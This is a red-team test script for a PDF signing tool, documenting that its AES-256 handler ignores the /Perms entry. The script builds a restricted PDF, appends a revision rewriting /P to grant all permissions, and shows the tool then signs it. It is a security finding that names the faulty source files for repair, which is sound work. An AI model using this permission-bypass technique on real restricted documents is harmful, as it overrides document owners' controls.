# Red-team finding (2026-12-07, issue 22): for the AES-256 standard handler (R5, R6) the
# permissions /P are not part of the file key; ISO 32000-2 Algorithm 13 binds them with /Perms
# (AES-256-ECB of P, "T"/"F", "adb" under the file key), which a reader shall check. countersign
# never reads /Perms, so anyone can rewrite /P of a file that forbids form filling and signing
# (here: an appended revision redefining the encryption dictionary, /P -4) and countersign signs
# it without the owner password. qpdf --check: "/Perms field in encryption dictionary doesn't
# match expected value". R2-R4 are not affected (/P feeds the key derivation).
# Cause: src/pdf/security/standard.rs StandardDict::parse / authenticate (no /Perms check);
# src/pdf/security/permissions.rs trusts standard.p; src/sign/preflight.rs check_permissions.
# Usage: python3 redteam_enc_r6_perms_unchecked.py COUNTERSIGN CLASSIC_PDF PKI_DIR OUTDIR
import re, subprocess, sys

exe, classic, pki, out = sys.argv[1:5]
# 1. R6, empty user password, owner password "owner", no forms / annotations / changes.
subprocess.run(["qpdf", "--encrypt", "", "owner", "256", "--form=n", "--annotate=n",
                "--modify-other=n", "--assemble=n", "--", classic, f"{out}/no-forms.pdf"],
               check=True)
sign = [exe, "sign", "--p12", f"{pki}/demo.p12", "--password", "demo"]
refused = subprocess.run(sign + [f"{out}/no-forms.pdf", "-o", f"{out}/refused.pdf"],
                         capture_output=True)
print("original: sign exit", refused.returncode, refused.stderr.decode().strip())
# 2. Mallory: the encryption dictionary again in an appended revision, /P -4 (all allowed).
data = open(f"{out}/no-forms.pdf", "rb").read()
m = re.search(rb"\n(\d+) 0 obj\n(<<[^\n]*?/Filter /Standard[^\n]*?)\nendobj", data)
num, body = int(m.group(1)), re.sub(rb"/P -?\d+", b"/P -4", m.group(2))
prev = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
trailer = re.findall(rb"trailer\s*<<(.*?)>>\s*startxref", data, re.S)[-1]
trailer = re.sub(rb"/Prev \d+", b"", trailer)
at = len(data)
data += b"%d 0 obj\n%s\nendobj\n" % (num, body)
xref = len(data)
data += b"xref\n%d 1\n%010d 00000 n \ntrailer\n<<%s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
    num, at, trailer, prev, xref)
open(f"{out}/p-rewritten.pdf", "wb").write(data)
signed = subprocess.run(sign + [f"{out}/p-rewritten.pdf", "-o", f"{out}/signed.pdf"],
                        capture_output=True)
print("/P rewritten: sign exit", signed.returncode, signed.stderr.decode().strip())
check = subprocess.run(["qpdf", "--check", f"{out}/signed.pdf"], capture_output=True)
print("qpdf --check:", [l for l in (check.stdout + check.stderr).decode().splitlines() if "Perms" in l])
